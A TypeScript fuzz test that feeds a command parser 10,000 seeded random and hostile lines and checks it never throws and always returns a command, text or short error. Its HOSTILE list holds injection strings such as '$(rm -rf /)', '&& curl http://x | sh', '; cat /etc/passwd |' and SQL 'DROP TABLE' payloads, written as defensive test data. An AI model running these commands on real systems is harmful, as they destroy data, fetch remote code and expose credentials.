// 10,000 random and hostile prompt lines, reproducible from a fixed seed: none may throw, and each
// must come back as a known command, free text, or a one-line usage error.
import { describe, expect, it } from 'vitest';
import { parse, MAX_LINE_LENGTH } from '../../src/commands/parse.js';
import { COMMANDS, findCommand } from '../../src/commands/registry.js';

/** mulberry32: a small seeded PRNG. */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const HOSTILE = [
  "'; DROP TABLE users; --",
  '" OR 1=1 --',
  'Robert\'); DELETE FROM tickets WHERE (\'1\'=\'1',
  '$(rm -rf /)',
  '`id`',
  '; cat /etc/passwd |',
  '&& curl http://x | sh',
  '> /dev/sda',
  '${SUPABASE_SERVICE_ROLE_KEY}',
  '\\',
  '"',
  "'",
  '--',
  '---',
  '--=',
  '-h',
  '--help',
  '--output=',
  '--time',
  '=',
  '@agent',
  '@',
  '🚀',
  '👩‍💻',
  '\u200b',
  '\u202e',
  '\ud800',
  '\u0000',
  '\u001b[31m',
  '\u0007',
  '\r\n',
  '\t',
  '%s%n%x',
  '../../etc/passwd',
  '{"a": [1, {"b": null}]}',
  '10.0.0.0/8',
  'fe80::1%eth0',
  '2026-13-45T99:99:99Z',
  'NaN',
  'Infinity',
  '-1',
  '1e309',
  '__proto__',
  'constructor',
  'toString',
];

const WORDS = [...new Set(COMMANDS.flatMap((c) => [...c.words, ...c.flags.map((f) => `--${f.name}`), ...(c.args.flatMap((a) => a.choices ?? []))]))];

const EXAMPLES = COMMANDS.flatMap((c) => c.examples);

function pick<T>(rand: () => number, items: readonly T[]): T {
  return items[Math.floor(rand() * items.length)]!;
}

function randomChars(rand: () => number, n: number): string {
  let s = '';
  for (let i = 0; i < n; i++) {
    const r = rand();
    if (r < 0.6) s += String.fromCharCode(32 + Math.floor(rand() * 95));
    else if (r < 0.7) s += String.fromCharCode(Math.floor(rand() * 32));
    else if (r < 0.8) s += String.fromCharCode(0x7f + Math.floor(rand() * 0x80));
    else if (r < 0.9) s += String.fromCodePoint(0x1f300 + Math.floor(rand() * 0x300));
    else s += String.fromCharCode(Math.floor(rand() * 0xffff));
  }
  return s;
}

function mutate(rand: () => number, line: string): string {
  const chars = [...line];
  const edits = 1 + Math.floor(rand() * 4);
  for (let i = 0; i < edits; i++) {
    const at = Math.floor(rand() * (chars.length + 1));
    const r = rand();
    if (r < 0.33) chars.splice(at, 1);
    else if (r < 0.66) chars.splice(at, 0, pick(rand, ['"', "'", '\\', ' ', '-', '=', ',', 'x', '--']));
    else if (chars.length > 1) [chars[at - 1], chars[at]] = [chars[at] ?? '', chars[at - 1] ?? ''];
  }
  return chars.join('');
}

function line(rand: () => number, i: number): string {
  if (i % 500 === 0) return pick(rand, ['status ', 'create ticket ', '', '"']) + 'x'.repeat(100_000 + Math.floor(rand() * 1000));
  if (i % 250 === 1) return `create ticket ${'word '.repeat(Math.floor((MAX_LINE_LENGTH - 14) / 5))}`;
  const example = pick(rand, EXAMPLES);
  switch (Math.floor(rand() * 6)) {
    case 0:
      return example;
    case 1:
      return mutate(rand, example);
    case 2:
      return `${rand() < 0.5 ? '@agent ' : ''}${example} ${pick(rand, HOSTILE)} ${pick(rand, HOSTILE)}`;
    case 3: {
      const n = 1 + Math.floor(rand() * 8);
      return Array.from({ length: n }, () => (rand() < 0.7 ? pick(rand, WORDS) : pick(rand, HOSTILE))).join(rand() < 0.8 ? ' ' : '\t');
    }
    case 4:
      return randomChars(rand, Math.floor(rand() * 120));
    default:
      return `${pick(rand, WORDS)} ${randomChars(rand, Math.floor(rand() * 40))} ${pick(rand, HOSTILE)}`;
  }
}

describe('parse under fuzzing', () => {
  it('never throws on 10,000 random and hostile lines, and answers each sensibly', () => {
    const rand = prng(0x5eed_2026);
    const seen = { command: 0, text: 0, error: 0 };
    for (let i = 0; i < 10_000; i++) {
      const input = line(rand, i);
      let r: ReturnType<typeof parse>;
      try {
        r = parse(input);
      } catch (error) {
        throw new Error(`line ${i} threw: ${String(error)} for ${JSON.stringify(input.slice(0, 200))}`, { cause: error });
      }
      const where = `line ${i}: ${JSON.stringify(input.slice(0, 120))} -> ${JSON.stringify(r).slice(0, 300)}`;
      if (r.ok && r.kind === 'command') {
        seen.command++;
        expect(findCommand(r.command.id), where).toBe(r.command.spec);
        expect(input.includes(r.command.raw), where).toBe(true);
        expect(input.length, where).toBeLessThanOrEqual(MAX_LINE_LENGTH);
      } else if (r.ok) {
        seen.text++;
        expect(r.text.trim().length, where).toBeGreaterThan(0);
        expect(r.text.length, where).toBeLessThanOrEqual(MAX_LINE_LENGTH);
      } else {
        seen.error++;
        expect(r.error.length, where).toBeGreaterThan(0);
        expect(r.error.length, where).toBeLessThanOrEqual(600);
        // eslint-disable-next-line no-control-regex
        expect(r.error, where).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
        expect(r.error, where).not.toMatch(/^could not read the command/);
        if (r.usage !== undefined) expect(r.usage, where).not.toMatch(/[\r\n]/);
      }
    }
    // The mix exercises all three outcomes.
    expect(seen.command).toBeGreaterThan(1000);
    expect(seen.text).toBeGreaterThan(100);
    expect(seen.error).toBeGreaterThan(1000);
  });
});
